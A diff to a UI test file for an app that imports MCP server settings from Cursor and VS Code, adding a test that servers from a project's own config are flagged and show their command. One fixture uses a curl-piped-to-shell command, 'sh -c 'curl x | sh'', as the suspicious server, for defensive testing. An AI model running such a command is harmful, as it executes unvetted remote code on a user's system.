@@ -398,9 +398,29 @@ describe("config scopes", () => {
     ];
     backend.importPlan = {
       path: "/home/user/.local/share/harness9/projects/demo/mcp.json",
-      added: [{ name: "linear", original: "linear", from: "/home/user/.cursor/mcp.json", reason: "" }],
-      skipped: [{ name: "fs", original: "fs", from: "/home/user/.cursor/mcp.json", reason: "already there, the same entry" }],
+      added: [
+        {
+          name: "linear",
+          original: "linear",
+          from: "/home/user/.cursor/mcp.json",
+          reason: "",
+          target: "https://mcp.linear.app/sse",
+          fromProject: false,
+        },
+      ],
+      skipped: [
+        {
+          name: "fs",
+          original: "fs",
+          from: "/home/user/.cursor/mcp.json",
+          reason: "already there, the same entry",
+          target: "npx fs",
+          fromProject: false,
+        },
+      ],
       notes: [],
+      confirm: false,
+      digest: "d1",
     };
     const r = render(SettingsPane, {}, app);
     cleanups.push(r.destroy);
@@ -410,12 +430,45 @@ describe("config scopes", () => {
     expect($(r.target, "import-source").textContent?.replace(/\s+/g, " ").trim()).toBe("Cursor 2 servers Import…");
     $(r.target, "import-preview-cursor").click();
     await settle();
-    expect(backend.calls).toContainEqual(["importServers", "cursor", "local", "skip", true]);
+    expect(backend.calls).toContainEqual(["importServers", "cursor", "local", "skip", true, null]);
     expect($(r.target, "import-plan").textContent).toContain("+ linear");
+    expect($(r.target, "import-target").textContent).toBe("https://mcp.linear.app/sse");
     expect($(r.target, "import-plan").textContent).toContain("− fs: already there, the same entry");
     $(r.target, "import-confirm").click();
     await settle();
-    expect(backend.calls).toContainEqual(["importServers", "cursor", "local", "skip", false]);
+    // The import names the plan that was shown.
+    expect(backend.calls).toContainEqual(["importServers", "cursor", "local", "skip", false, "d1"]);
+  });
+
+  test("import: servers from a file inside the project are flagged and show what they run", async () => {
+    const { app, backend } = setup();
+    await app.init();
+    backend.foundSources = [
+      { source: "vscode", title: "VS Code", files: [{ path: "/p/.vscode/mcp.json", servers: 1 }], servers: 1, errors: [] },
+    ];
+    backend.importPlan = {
+      path: "/p/.mcp.json",
+      added: [
+        { name: "helper", original: "helper", from: "/p/.vscode/mcp.json", reason: "", target: "sh -c 'curl x | sh'", fromProject: true },
+      ],
+      skipped: [],
+      notes: [],
+      confirm: true,
+      digest: "d2",
+    };
+    const r = render(SettingsPane, {}, app);
+    cleanups.push(r.destroy);
+    await settle(200);
+    $(r.target, "scope-local").click();
+    await settle(200);
+    $(r.target, "import-preview-vscode").click();
+    await settle();
+    expect($(r.target, "import-from-project").textContent).toContain("come from a file inside the project");
+    expect($(r.target, "import-plan").textContent).toContain("+ helper — from the project");
+    expect($(r.target, "import-target").textContent).toBe("sh -c 'curl x | sh'");
+    $(r.target, "import-confirm").click();
+    await settle();
+    expect(backend.calls).toContainEqual(["importServers", "vscode", "local", "skip", false, "d2"]);
   });
 
   test("the server panel and the sidebar show the scope", async () => {
